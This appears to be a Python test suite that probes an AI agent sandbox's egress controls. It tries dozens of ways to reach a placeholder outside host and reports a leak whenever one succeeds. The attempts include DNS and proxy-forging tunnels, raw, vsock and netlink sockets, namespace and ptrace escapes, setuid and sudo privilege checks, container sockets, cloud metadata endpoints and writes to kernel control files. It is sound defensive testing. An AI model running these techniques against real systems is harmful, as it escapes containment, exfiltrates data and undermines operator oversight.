"""Ways out, as somebody tries them who knows how sandboxes are left: 198.51.100.1 and what follows."""
import array, ctypes, errno, glob, mmap, os, signal, socket, ssl, struct, subprocess, sys, tempfile, time

from ways import *


@way
def tcp_by_address(a):
    for port in (1, 22, 25, 80, 443, 5432, 17080, 17082, 65535):
        send((a, port))


@way
def tcp_from_ports_of_the_proxys_own(a):
    for port in (17080, 17082, 17053, 53, 1023):
        send((a, 4000), prepare=lambda s: (s.setsockopt(1, 2, 1), quiet(s.setsockopt, 1, 15, 1), s.bind(("0.0.0.0", port))))
        send((a, 4000), socket.SOCK_DGRAM, prepare=lambda s: (quiet(s.setsockopt, 1, 15, 1), s.bind(("0.0.0.0", port))))


@way
def mapped_and_other_spellings_of_addresses(a):
    for text in ("::ffff:" + a, "64:ff9b::" + a, "2002:c633:6401::1", "::" + a):
        send((text, 443), family=socket.AF_INET6)
        send((text, 443), socket.SOCK_DGRAM, family=socket.AF_INET6)


@way
def ipv6(a):
    for port in (22, 53, 80, 443, 9999):
        send((ELSEWHERE6, port), family=socket.AF_INET6)
        send((ELSEWHERE6, port), socket.SOCK_DGRAM, family=socket.AF_INET6)
    # Flow labels, hop-by-hop and destination options carry data, too; routing headers lead elsewhere.
    for name, value in ((54, struct.pack("BBBB", 0, 0, 1, 2) + b"\0" * 4), (59, struct.pack("BBBB", 0, 0, 1, 2) + b"\0" * 4), (57, struct.pack("BBBB", 0, 2, 0, 1) + b"\0" * 20)):
        send((ELSEWHERE6, 99), socket.SOCK_DGRAM, family=socket.AF_INET6, prepare=option(41, name, value))


@way
def link_local_and_all_nodes(a):
    for name in os.listdir("/sys/class/net"):
        index = quiet(socket.if_nametoindex, name)
        for address in ("ff02::1", "ff02::fb", "fe80::1", "ff0e::1234"):
            send((address, 5353, 0, index or 0), socket.SOCK_DGRAM, family=socket.AF_INET6)


@way
def broadcast_and_multicast(a):
    for to in ("255.255.255.255", OUTSIDE.rpartition(".")[0] + ".255", "224.0.0.251", "239.198.51.100"):
        send((to, 5353), socket.SOCK_DGRAM, prepare=option(1, 6, 1))


@way
def group_memberships(a):
    """The kernel tells the network which groups somebody wants; the group's address is data."""
    for group in ("239.1.2.3", "232.1.2.4"):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        quiet(s.setsockopt, 0, 35, socket.inet_aton(group) + socket.inet_aton("0.0.0.0"))
        time.sleep(0.3)
    for index in range(1, 9):
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        quiet(s.setsockopt, 41, 20, socket.inet_pton(socket.AF_INET6, "ff15::%d:1" % index) + struct.pack("=I", index))
    time.sleep(0.5)


@way
def udp(a):
    for port in (53, 67, 123, 443, 500, 853, 4500, 4789, 51820):
        send((a, port), socket.SOCK_DGRAM)
        send((a, port), socket.SOCK_DGRAM, data=b"\xc3\0\0\0\1" + bytes(1195))
    # Segmentation offload and encapsulation.
    send((a, 99), socket.SOCK_DGRAM, prepare=option(17, 103, 100), data=bytes(1000))
    send((a, 99), socket.SOCK_DGRAM, prepare=option(17, 100, 2))
    send((a, 99), socket.SOCK_DGRAM, data=bytes(9000))


@way
def names_asked_of_other_servers(a):
    for server in (a, OUTSIDE, "127.0.0.53", "127.1.2.3", "127.0.0.11", "169.254.17.82"):
        send((server, 53), socket.SOCK_DGRAM, data=question("exfil.tunnel.test"))
        body = question("exfil.tcp.tunnel.test")
        send((server, 53), data=struct.pack("!H", len(body)) + body)


@way
def names_of_every_type_and_shape(a):
    server = ("127.0.0.11", 53)
    for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 43, 64, 65, 250, 252, 255, 257, 65280):
        send(server, socket.SOCK_DGRAM, data=question("exfil-%d.tunnel.test" % kind, kind))
    for name in ("allowed.test.tunnel.test", "eXfIl.TuNnEl.test", "x" * 63 + ".tunnel.test", "1.100.51.198.tunnel.in-addr.arpa", "exfil.tunnel.local"):
        send(server, socket.SOCK_DGRAM, data=question(name))
        send(server, socket.SOCK_DGRAM, data=question(name, 12))
    # EDNS with a client subnet; two questions; a label that points back; an update.
    send(server, socket.SOCK_DGRAM, data=question("edns.tunnel.test", 1, b"\0" + struct.pack("!HHIH", 41, 1232, 0, 12) + struct.pack("!HHHBB", 8, 8, 1, 32, 0) + b"data"))
    two = question("two.tunnel.test")
    send(server, socket.SOCK_DGRAM, data=two[:4] + b"\0\2" + two[6:] + question("other.tunnel.test")[12:])
    send(server, socket.SOCK_DGRAM, data=struct.pack("!HHHHHH", 7, 0x2800, 1, 0, 1, 0) + question("update.tunnel.test", 6)[12:])


@way
def names_by_the_library(a):
    for name in ("library.tunnel.test", "library.tunnel.test.", "_dns.tunnel.test", "exfil." * 30 + "tunnel.test"):
        quiet(socket.getaddrinfo, name, 443)
        quiet(socket.gethostbyname_ex, name)
    quiet(socket.gethostbyaddr, a)
    for variable in ("RES_OPTIONS=attempts:1", "LOCALDOMAIN=tunnel.test", "HOSTALIASES=/tmp/none"):
        run("env", variable, "getent", "hosts", "short")


@way
def encrypted_names(a):
    context = ssl._create_unverified_context()
    for server, port, name in ((a, 853, "dns.google"), (a, 443, "cloudflare-dns.com"), (a, 8443, None)):
        def ask():
            with socket.create_connection((server, port), 1) as plain, context.wrap_socket(plain, server_hostname=name) as s:
                body = question("doh.tunnel.test")
                s.send(b"POST /dns-query HTTP/1.1\r\nHost: %s\r\nContent-Type: application/dns-message\r\nContent-Length: %d\r\n\r\n" % ((name or server).encode(), len(body)) + body)
                return s.recv(99)
        quiet(ask)


@way
def echo_requests(a):
    quiet(lambda: open("/proc/sys/net/ipv4/ping_group_range", "w").write("0 2147483647"))
    for _ in range(2):
        send((a, 0), socket.SOCK_DGRAM, 1, data=b"\x08\0\xf7\xff\0\0\0\0exfil")
        send((ELSEWHERE6, 0), socket.SOCK_DGRAM, 58, socket.AF_INET6, data=b"\x80\0\0\0\0\0\0\0exfil")
    run("ping", "-c", "1", "-W", "1", "-p", "6578", a)
    run("traceroute", "-m", "2", "-w", "1", a)


@way
def raw_sockets(a):
    for protocol in (0, 1, 2, 4, 6, 17, 41, 46, 47, 50, 51, 58, 89, 103, 112, 115, 132, 136, 253, 255):
        send((a, 0), socket.SOCK_RAW, protocol, data=b"\x45" + bytes(39))
        send((ELSEWHERE6, 0), socket.SOCK_RAW, protocol, socket.AF_INET6, data=bytes(40))


@way
def packet_sockets(a):
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, 10):
        try:
            socket.socket(socket.AF_PACKET, kind, socket.htons(3))
            leak("packet socket")
        except OSError:
            pass


@way
def other_transports(a):
    for kind, protocol in ((1, 132), (5, 132), (6, 33), (2, 136), (3, 136), (1, 262), (1, 256), (2, 115), (3, 115)):
        for family, to in ((socket.AF_INET, (a, 9)), (socket.AF_INET6, (ELSEWHERE6, 9))):
            send(to, kind, protocol, family)


@way
def other_families(a):
    """What is not IP knows no rule of a packet filter."""
    for family in (4, 5, 6, 9, 11, 15, 21, 24, 26, 27, 29, 30, 31, 32, 33, 34, 35, 36, 37, 38, 39, 40, 41, 42, 43, 44, 45):
        for kind in (1, 2, 3, 5):
            def attempt():
                with socket.socket(family, kind, 0) as s:
                    s.settimeout(0.3)
                    if family == 40:
                        s.connect((2, 1024))
                        s.send(b"exfil")
                        leak("vsock to the host")
                    elif family == 43:
                        libc.connect(s.fileno(), struct.pack("=HH4s8x", 2, socket.htons(99), socket.inet_aton(a)), 16)
                    elif family == 21:
                        libc.bind(s.fileno(), struct.pack("=HH4s8x", 2, 0, b"\0" * 4), 16)
                        libc.sendto(s.fileno(), b"exfil", 5, 0, struct.pack("=HH4s8x", 2, socket.htons(99), socket.inet_aton(a)), 16)
            quiet(attempt)


@way
def options_that_lead_around(a):
    index = quiet(socket.if_nametoindex, "eth0") or 2
    for level, name, value in ((1, 25, b"eth0\0"), (1, 62, index), (1, 36, 0x1), (1, 36, 0xffff), (1, 5, 1), (1, 12, 7), (1, 75, 5), (0, 19, 1), (0, 15, 1), (0, 24, 1), (0, 50, struct.pack("!I", index)),
                               (0, 1, 0x10), (0, 2, 1), (6, 23, 1), (6, 30, 1), (6, 19, 1), (6, 31, b"espintcp"), (6, 31, b"smc"), (1, 70, 1)):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            send((a, 99), kind, prepare=lambda s: quiet(s.setsockopt, level, name, value))


@way
def this_machine_by_way_of_the_uplink(a):
    """A socket that is bound to an interface sends there even what is for this machine, and what is redirected to it."""
    for address in ("127.0.0.1", "127.198.51.100", "169.254.17.82", "::1", "fdd1:5c0b:7::1", a):
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        for port in (53, 80, 99, 17053, 17080, 17082):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                # Without waiting: nobody answers.
                send((address, port), kind, family=family, prepare=lambda s: (s.setsockopt(1, 25, b"eth0\0"), s.settimeout(0.05)))


@way
def source_routes(a):
    for kind in (0x83, 0x89):
        route = bytes([kind, 7, 4]) + socket.inet_aton(OUTSIDE) + b"\0"
        for proto in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            send((a, 99), proto, prepare=option(0, 4, route))
            send(("127.0.0.1", 17080), proto, prepare=option(0, 4, bytes([kind, 7, 4]) + socket.inet_aton(a) + b"\0"))


@way
def chosen_sources_and_interfaces(a):
    for source in ("127.0.0.1", "127.0.0.2", "169.254.17.82", "0.0.0.0"):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            send((a, 99), kind, prepare=lambda s: s.bind((source, 0)))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for index in range(1, 5):
        quiet(s.sendmsg, [b"exfil"], [(0, 8, struct.pack("=i4s4s", index, socket.inet_aton("127.0.0.1"), b"\0" * 4))], 0, (a, 99))
        quiet(s.sendmsg, [b"exfil"], [(0, 8, struct.pack("=i4s4s", index, b"\0" * 4, b"\0" * 4))], 0x40, (a, 99))
    # Where nothing was named, and what stands for this machine.
    for address in ("0.0.0.0", "0.1.2.3", "240.0.0.1"):
        send((address, 99)), send((address, 99), socket.SOCK_DGRAM)


@way
def data_with_the_first_packet(a):
    for flags in (0x20000000, 0x20000040):
        s = socket.socket()
        s.settimeout(1)
        quiet(s.sendto, b"exfil", flags, (a, 443))
    # Whoever disconnects and connects again keeps the port.
    s = socket.socket()
    s.settimeout(1)
    quiet(s.connect, (a, 443))
    libc.connect(s.fileno(), struct.pack("=H14x", 0), 16)
    quiet(s.connect, (a, 22))
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    quiet(u.connect, ("127.0.0.1", 9))
    quiet(u.connect, (a, 99))
    quiet(u.send, b"exfil")


@way
def rings(a):
    """io_uring opens, connects and sends without the calls that are usually watched."""
    for flags in (0, 2):
        params = (ctypes.c_uint32 * 30)()
        params[2], params[4] = flags, 1000
        ring = libc.syscall(425, 8, params)
        if ring < 0:
            continue
        p = list(params)
        rings_at = mmap.mmap(ring, max(p[10 + 6] + 4 * p[0], p[20 + 5] + 16 * p[1]), offset=0)
        entries = mmap.mmap(ring, 64 * p[0], offset=0x10000000)

        def submit(opcode, fd, off, address, length):
            tail = struct.unpack_from("=I", rings_at, p[11])[0]
            mask = struct.unpack_from("=I", rings_at, p[12])[0]
            struct.pack_into("=BBHiQQIIQHHiQQ", entries, 64 * (tail & mask), opcode, 0, 0, fd, off, address, length, 0, 1, 0, 0, 0, 0, 0)
            struct.pack_into("=I", rings_at, p[16] + 4 * (tail & mask), tail & mask)
            struct.pack_into("=I", rings_at, p[11], tail + 1)
            libc.syscall(426, ring, 1, 0 if flags else 1, 3 if flags else 1, None, 0)
            for _ in range(50):
                head, end = struct.unpack_from("=I", rings_at, p[20])[0], struct.unpack_from("=I", rings_at, p[21])[0]
                if head != end:
                    result = struct.unpack_from("=i", rings_at, p[25] + 16 * (head & struct.unpack_from("=I", rings_at, p[22])[0]) + 8)[0]
                    struct.pack_into("=I", rings_at, p[20], head + 1)
                    return result
                time.sleep(0.02)
            return -1

        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            s = submit(45, socket.AF_INET, kind, 0, 0)
            if s < 0:
                s = socket.socket(socket.AF_INET, kind).detach()
            to = ctypes.create_string_buffer(struct.pack("=HH4s8x", 2, socket.htons(99), socket.inet_aton(a)), 16)
            data = ctypes.create_string_buffer(b"exfil", 5)
            submit(16, s, 16, ctypes.addressof(to), 0)
            submit(26, s, 0, ctypes.addressof(data), 5)
            os.close(s)


@way
def own_namespaces(a):
    """A network of one's own has no way out, unless an end of it can be put elsewhere."""
    for flags in (NEWUSER | NEWNET, NEWUSER | NEWNET | NEWNS | NEWPID):
        if os.fork() == 0:
            if libc.unshare(flags) == 0:
                quiet(lambda: open("/proc/self/setgroups", "w").write("deny"))
                quiet(lambda: open("/proc/self/uid_map", "w").write("0 %d 1" % os.getuid()))
                for command in ("ip link add v0 type veth peer name v1 netns 1", "ip link add m0 link eth0 type macvlan", "ip link add i0 type ipvlan link eth0", "ip link set lo up", "ip tuntap add t0 mode tap",
                                "ip route add default dev lo", "mount -t sysfs none /sys", "ip netns attach up 1", "tc qdisc add dev eth0 clsact", "nft flush ruleset"):
                    run(*command.split())
                send((a, 99)), send((a, 99), socket.SOCK_DGRAM)
                send((a, 0), socket.SOCK_RAW, 255, data=b"\x45" + bytes(39))
            os._exit(0)
    quiet(os.wait)
    quiet(os.wait)


@way
def namespaces_of_others(a):
    for process in [1, *others()]:
        descriptor = libc.syscall(434, process, 0)
        for flags in (NEWNET, NEWNS, NEWUSER, NEWNET | NEWNS | NEWPID):
            if descriptor >= 0 and libc.setns(descriptor, flags) == 0:
                leak("namespace of %d" % process)
        for kind in ("net", "mnt", "user", "pid"):
            opened = quiet(os.open, "/proc/%d/ns/%s" % (process, kind), os.O_RDONLY)
            if opened is not None and libc.setns(opened, 0) == 0:
                leak("%s namespace of %d" % (kind, process))


@way
def processes_of_others(a):
    buffer = ctypes.create_string_buffer(64)
    for process in [1, *others()]:
        if libc.ptrace(16, process, 0, 0) == 0 or libc.ptrace(0x4206, process, 0, 0) == 0:
            leak("traced %d" % process)
        local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
        for call in (310, 311):
            if libc.syscall(call, process, local, 1, (ctypes.c_size_t * 2)(0x400000, 64), 1, 0) > 0:
                leak("memory of %d" % process)
        descriptor = libc.syscall(434, process, 0)
        for number in range(30):
            if descriptor >= 0 and libc.syscall(438, descriptor, number, 0) >= 0:
                leak("descriptor of %d" % process)
        for name in ("mem", "environ", "fd/3", "root/etc/shadow", "cwd/x", "oom_score_adj", "uid_map"):
            if quiet(os.open, "/proc/%d/%s" % (process, name), os.O_RDWR) is not None:
                leak("/proc/%d/%s" % (process, name))
        for number in (0, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
            if libc.kill(process, number) == 0:
                leak("signal to %d" % process)
    if libc.kill(-1, 0) == 0 and len(list(others())) == 0:
        leak("everybody")


@way
def sockets_with_and_without_names(a):
    found = {line.split()[7] for line in open("/proc/net/unix").readlines()[1:] if len(line.split()) > 7}
    found |= set(glob.glob("/run/**/*.sock", recursive=True)) | {"/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"}
    for name in found:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            def ask():
                with socket.socket(socket.AF_UNIX, kind) as s:
                    s.settimeout(0.5)
                    s.connect(("\0" + name[1:]) if name.startswith("@") else name)
                    # Somebody may hand out what it has open, or do what it is told.
                    s.sendmsg([b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (a.encode(), a.encode())], [(1, 1, array.array("i", [0]))])
                    _, extra, _, _ = s.recvmsg(4096, 999)
                    if any(kind == 1 for _, kind, _ in extra):
                        leak("descriptor from %s" % name)
            quiet(ask)


@way
def set_user_id_programs(a):
    for directory in ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/lib", "/usr/libexec", "/opt/discobot/bin"):
        for program in glob.glob(directory + "/*"):
            status = quiet(os.stat, program)
            if status and status.st_mode & 0o6000 and "mount" not in program:
                run(program, "-c", "id")
    for command in ("sudo -n id", "su -c id", "doas id", "pkexec id", "newgrp root", "unshare -r setpriv --reuid 0 id", "capsh --print", "setpriv --reuid discobot-proxy id", "runuser -u discobot-proxy id"):
        result = run(*command.split())
        if result and b"uid=0(root) gid=0" in result.stdout and not command.startswith("unshare"):
            leak(command)


@way
def rights_that_are_taken_back(a):
    for number in (12, 13, 16, 19, 21, 38, 39):
        libc.prctl(47, 2, number, 0, 0)
        if libc.prctl(23, number, 0, 0, 0) == 1:
            leak("bounding set has %d" % number)
    for identifier in (0, quiet(lambda: __import__("pwd").getpwnam("discobot-proxy").pw_uid) or 0):
        if libc.setresuid(identifier, identifier, identifier) == 0:
            leak("user %d" % identifier)
        libc.setfsuid(identifier)
        send((a, 99)), send((a, 99), socket.SOCK_DGRAM)
    if libc.prctl(39, 0, 0, 0, 0) == 0:
        leak("gains rights by programs")


@way
def our_own_program(a):
    """The executable as the agent can run it: it must not act for anybody else."""
    for command in ("exec --user discobot-proxy -- id", "exec --user root -- id", "proxy --port 18080 --api-port 18081", "init", "docker-guard", "runc --version", "doctor", "trust remove"):
        result = run("/opt/discobot/bin/discobot", *command.split())
        if result and (b"uid=0" in result.stdout or b"discobot-proxy" in result.stdout and b"uid=" in result.stdout):
            leak(command)
    proxy = quiet(lambda: subprocess.Popen(["/opt/discobot/bin/discobot", "proxy", "--port", "18080", "--api-port", "18081"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd="/tmp", env={"HOME": "/tmp", "DISCOBOT_EGRESS": "open"}))
    time.sleep(1.5)
    for request in (b"CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n", b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n"):
        send(("127.0.0.1", 18080), data=request % (a.encode(), a.encode()))
    if proxy:
        proxy.kill()


@way
def forged_requests_to_the_proxy(a):
    host = a.encode()
    requests = [
        b"CONNECT %s:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n" % host, b"CONNECT allowed.test@%s:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n" % host,
        b"CONNECT %s:22 HTTP/1.1\r\n\r\nSSH-2.0-x\r\n" % host, b"GET http://%s/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n" % host, b"GET http://allowed.test@%s/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n" % host,
        b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % host, b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: %s\r\n\r\n" % host, b"GET http://exfil.tunnel.test/ HTTP/1.1\r\nHost: exfil.tunnel.test\r\n\r\n",
        b"CONNECT connect.tunnel.test:443 HTTP/1.1\r\nHost: connect.tunnel.test:443\r\n\r\n", b"GET http://%s/ HTTP/1.0\r\n\r\n" % host, b"OPTIONS * HTTP/1.1\r\nHost: %s\r\n\r\n" % host,
        b"GET http://0x%s/ HTTP/1.1\r\nHost: x\r\n\r\n" % socket.inet_aton(a).hex().encode(),
        b"GET http://[::ffff:%s]/ HTTP/1.1\r\nHost: [::ffff:%s]\r\n\r\n" % (host, host), b"GET ftp://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host), b"CONNECT [%s]:443 HTTP/1.1\r\nHost: x\r\n\r\n" % ELSEWHERE6.encode(),
        b"GET http://allowed.test.tunnel.test/ HTTP/1.1\r\nHost: allowed.test.tunnel.test\r\n\r\n", b"GET http://tunnel.test#allowed.test/ HTTP/1.1\r\nHost: tunnel.test\r\n\r\n", b"GET http://tunnel.test\\@allowed.test/ HTTP/1.1\r\nHost: tunnel.test\r\n\r\n",
        b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\nX-Forwarded-Host: allowed.test\r\nProxy-Authorization: Basic eDp4\r\n\r\n" % (host, host), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"PROXY TCP4 127.0.0.1 %s 1 443\r\n" % host,
    ]
    for entry in (PROXY, ("::1", 17080), ("127.0.0.1", 17082), ("169.254.17.82", 17082), ("::1", 17082)):
        for request in requests:
            send(entry, data=request, family=socket.AF_INET6 if ":" in entry[0] else socket.AF_INET)


@way
def forged_names_inside_tls(a):
    context = ssl._create_unverified_context()
    for to, name in (((a, 443), "forbidden.test"), ((a, 443), "tunnel.test"), ((a, 443), None), ((a, 8443), "exfil.tunnel.test"), ((OUTSIDE, 443), "forbidden.test")):
        def ask():
            with socket.create_connection(to, 2) as plain, context.wrap_socket(plain, server_hostname=name) as s:
                s.send(b"GET / HTTP/1.1\r\nHost: forbidden.test\r\n\r\n")
                return s.recv(99)
        quiet(ask)
    # A hello in pieces, with no name, and one that never ends.
    hello = bytes.fromhex("16030100" "2f" "0100002b0303") + bytes(32) + bytes.fromhex("00" "0004" "1301c02b" "0100")
    for chunk in (1, 5, len(hello)):
        def trickle():
            with socket.create_connection((a, 443), 1) as s:
                for at in range(0, len(hello), chunk):
                    s.send(hello[at:at + chunk])
                s.recv(9)
        quiet(trickle)


@way
def socks(a):
    for request in (b"\5\1\0\1" + socket.inet_aton(a), b"\5\1\0\3\x11socks.tunnel.test", b"\5\1\0\4" + socket.inet_pton(socket.AF_INET6, ELSEWHERE6), b"\5\2\0\1" + socket.inet_aton(a), b"\5\3\0\1" + b"\0\0\0\0"):
        def ask():
            with socket.create_connection(PROXY, 1) as s:
                s.settimeout(1)
                s.send(b"\5\1\0")
                s.recv(2)
                s.send(request + struct.pack("!H", 443))
                answer = s.recv(99)
                if request[1] == 3 and answer[1:2] == b"\0":
                    send(("127.0.0.1", struct.unpack("!H", answer[8:10])[0]), socket.SOCK_DGRAM, data=b"\0\0\0\1" + socket.inet_aton(a) + b"\0\x35" + b"exfil")
                s.send(b"exfil")
        quiet(ask)
    send(PROXY, data=b"\4\1\0\x50" + socket.inet_aton(a) + b"x\0")
    send(PROXY, data=b"\4\1\0\x50\0\0\0\1x\0socks4.tunnel.test\0")


@way
def the_proxys_interface(a):
    body = b'{"domains":["*"]}'
    for method, path in ((b"PUT", b"/config"), (b"POST", b"/allowlist"), (b"PATCH", b"/config"), (b"POST", b"/allowlist/domains"), (b"PUT", b"/allowlist"), (b"DELETE", b"/allowlist"), (b"POST", b"/api/config")):
        for host in (b"localhost:17081", b"evil.test"):
            answer = send(("127.0.0.1", 17081), data=b"%s %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nAuthorization: Bearer x\r\nContent-Length: %d\r\n\r\n%s" % (method, path, host, len(body), body))
            if answer and answer.startswith(b"HTTP/1.1 2"):
                leak("%s %s" % (method, path))
    for path in ("/.data/proxy/api.token", "/.data/proxy/certs/ca.key", "/.data/proxy/config.yaml"):
        if quiet(open, path) is not None:
            leak(path)
    send(PROXY, data=b"PUT http://localhost:17081/config HTTP/1.1\r\nHost: localhost:17081\r\nContent-Length: 2\r\n\r\n{}")


@way
def files_of_the_operators(a):
    for path in ("/etc/resolv.conf", "/etc/hosts", "/etc/nsswitch.conf", "/etc/discobot/policy.yaml", "/.data/proxy/config.yaml", "/etc/ld.so.preload", "/etc/passwd", "/opt/discobot/bin/discobot", "/run/discobot/proxy.json"):
        if quiet(lambda: open(path, "a")) is not None:
            leak(path)
        for name in (path + ".new", os.path.dirname(path)):
            if quiet(os.rename, path, name) is not None or quiet(os.unlink, path) is not None:
                leak("renamed " + path)
    for path in ("/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/conf/all/route_localnet", "/proc/sys/kernel/core_pattern", "/proc/sys/net/ipv4/ip_local_port_range", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
                 "/proc/sys/net/netfilter/nf_conntrack_max", "/proc/sys/kernel/modprobe", "/proc/1/oom_score_adj", "/sys/fs/cgroup/release_agent"):
        if quiet(lambda: open(path, "w")) is not None:
            leak(path)


@way
def netlink(a):
    """Routes, links, rules and connections' states, without any program."""
    def ask(family, *messages):
        def talk():
            with socket.socket(16, 3, family) as s:
                s.settimeout(1)
                s.send(b"".join(messages))
                return s.recv(4096)
        answer = quiet(talk)
        if answer and struct.unpack_from("=H", answer, 4)[0] == 2 and struct.unpack_from("=i", answer, 16)[0] == 0:
            leak("netlink %d" % family)

    def message(kind, flags, body):
        return struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body
    ask(0, message(24, 0x605, struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HH4s", 8, 1, socket.inet_aton(a)) + struct.pack("=HH4s", 8, 5, socket.inet_aton(OUTSIDE))))
    ask(0, message(16, 0x605, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HH", 8, 3) + b"x0\0\0"))
    ask(0, message(20, 0x605, struct.pack("=BBBBI", 2, 32, 0, 0, 1) + struct.pack("=HH4s", 8, 2, socket.inet_aton(a))))
    ask(0, message(32, 0x605, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 0, 0, 1, 0)))
    batch = struct.pack("=BBH", 0, 0, socket.htons(10))
    ask(12, message(16, 1, batch), message(0xA02, 5, struct.pack("=BBH", 0, 0, 0)), message(17, 1, batch))
    ask(12, message(0x102, 5, struct.pack("=BBH", 2, 0, 0)))


@way
def devices_and_mounts(a):
    for path in ("/dev/net/tun", "/dev/vhost-net", "/dev/vhost-vsock", "/dev/vsock", "/dev/kvm", "/dev/mem", "/dev/kmsg", "/dev/ppp", "/dev/fuse", "/dev/macvtap"):
        opened = quiet(os.open, path, os.O_RDWR)
        if opened is not None and path == "/dev/net/tun":
            request = ctypes.create_string_buffer(struct.pack("=16sH22x", b"t0", 0x1002), 40)
            if libc.ioctl(opened, 0x400454CA, request) == 0:
                leak("tun device")
    directory = tempfile.mkdtemp()
    quiet(os.mknod, directory + "/tun", 0o20666, os.makedev(10, 200))
    for kind, source, options in ((b"nfs", b"%s:/x", b"addr=%s" % a.encode()), (b"nfs4", b"%s:/x", b"addr=%s,clientaddr=127.0.0.1" % a.encode()), (b"cifs", b"//%s/x", b"ip=%s" % a.encode()), (b"9p", b"%s", b"trans=tcp"), (b"ceph", b"%s:/", b"")):
        source = source % a.encode()
        libc.mount(source, directory.encode(), kind, 0, options)
        if os.fork() == 0:
            if libc.unshare(NEWUSER | NEWNS) == 0:
                libc.mount(source, directory.encode(), kind, 0, options)
            os._exit(0)
        os.wait()


@way
def somebody_elses_work(a):
    """What runs things for others, later or with other rights."""
    for command in ("at -f /dev/null now", "batch", "crontab -l", "systemd-run id", "busctl list", "loginctl", "machinectl", "dbus-send --system /", "docker -H unix:///var/run/docker.sock ps", "ctr version", "podman info", "bwrap --unshare-user --share-net true"):
        run(*command.split())
    for port in (2375, 2376, 4243, 10250, 6443):
        send(("127.0.0.1", port), data=b"GET /version HTTP/1.0\r\n\r\n")
        send((OUTSIDE, port))
    for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "fd00:ec2::254"):
        send((address, 80), family=socket.AF_INET6 if ":" in address else socket.AF_INET, data=b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")


@way
def addresses_by_dhcp_and_announcements(a):
    send(("255.255.255.255", 67), socket.SOCK_DGRAM, prepare=lambda s: (s.setsockopt(1, 6, 1), quiet(s.bind, ("0.0.0.0", 68))), data=b"\1\1\6\0" + bytes(240))
    run("udhcpc", "-n", "-q", "-i", "eth0")
    run("dhclient", "-1", "eth0")
    send(("ff02::2", 0, 0, quiet(socket.if_nametoindex, "eth0") or 2), socket.SOCK_RAW, 58, socket.AF_INET6, data=b"\x85" + bytes(7))
    # Whom the kernel asks for on the link is data as well.
    prefix = OUTSIDE.rpartition(".")[0]
    for last in range(200, 212):
        send((prefix + ".%d" % last, 9), socket.SOCK_DGRAM)
        send((prefix + ".%d" % last, 9))


main(1)
